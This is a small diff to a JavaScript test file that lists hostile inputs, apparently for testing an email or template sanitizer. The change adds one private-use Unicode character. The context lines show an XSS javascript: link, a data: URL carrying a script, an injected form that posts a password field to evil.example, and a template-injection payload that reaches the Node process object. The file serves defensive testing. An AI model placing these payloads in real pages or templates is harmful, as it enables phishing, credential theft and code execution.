@@ -35,7 +35,7 @@ const HOSTILE = [
   '[click](javascript:alert(1)) [data](data:text/html;base64,PHNjcmlwdD4=)',
   '</div></td></table><form action=https://evil.example><input name=password>',
   '{{link}} {{unsubscribe}} {{constructor.constructor("return process")()}} $t(password_reset.text)',
-  '\uE000\uE001\uE002\uE003',
+  '\uE000\uE001\uE002\uE003\uE004',
   '-- \n--\nThis is the small print',
 ];
 
